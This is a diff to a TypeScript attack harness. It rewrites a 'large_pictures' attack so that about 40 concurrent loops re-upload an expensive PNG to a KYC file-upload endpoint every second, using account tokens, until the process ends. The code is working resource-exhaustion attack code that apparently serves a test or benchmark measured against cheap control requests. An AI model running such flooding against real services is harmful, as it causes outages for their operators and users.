@@ -1,7 +1,8 @@
 import { randomBytes } from 'node:crypto';
-import sharp from 'sharp';
+import { setTimeout as sleep } from 'node:timers/promises';
 import { keepSaying, type Means } from './means.ts';
 import { PASSWORD } from './accounts.ts';
+import { dearPicture } from './dear-picture.ts';
 import { deadFeed, silentMail, type Surroundings } from './surroundings.ts';
 
 /** An attack within the limits, and as many cheap requests in its place. Either goes on until the process ends. */
@@ -117,16 +118,19 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
   },
   large_pictures: {
     async attack(means) {
-      const create = { width: 4_990, height: 4_990, channels: 3 as const, background: '#123456' };
-      const picture = await sharp({ create }).toColourspace('rgb16').png({ progressive: true }).toBuffer();
+      const picture = await dearPicture();
       const part = 'Content-Disposition: form-data; name=';
       const head = `--x\r\n${part}"purpose"\r\n\r\nkyc\r\n--x\r\n${part}"file"; filename="a.png"\r\n\r\n`;
       const body = Buffer.concat([Buffer.from(head), picture, Buffer.from('\r\n--x--\r\n')]);
       const type = { 'content-type': 'multipart/form-data; boundary=x' };
-      for (let n = 0; n < means.many(40); n++) {
+      const send = async (n: number): Promise<void> => {
         const { token } = means.target.accounts[n % means.target.accounts.length]!;
-        void means.send(n % ADDRESSES, '/bb/file/upload', body, { ...type, 'x-access-token': token });
-      }
+        for (;;) {
+          await means.send(n % ADDRESSES, '/bb/file/upload', body, { ...type, 'x-access-token': token });
+          await sleep(1_000);
+        }
+      };
+      for (let n = 0; n < means.many(40); n++) void send(n);
     },
     control: cheapCalls(4),
   },
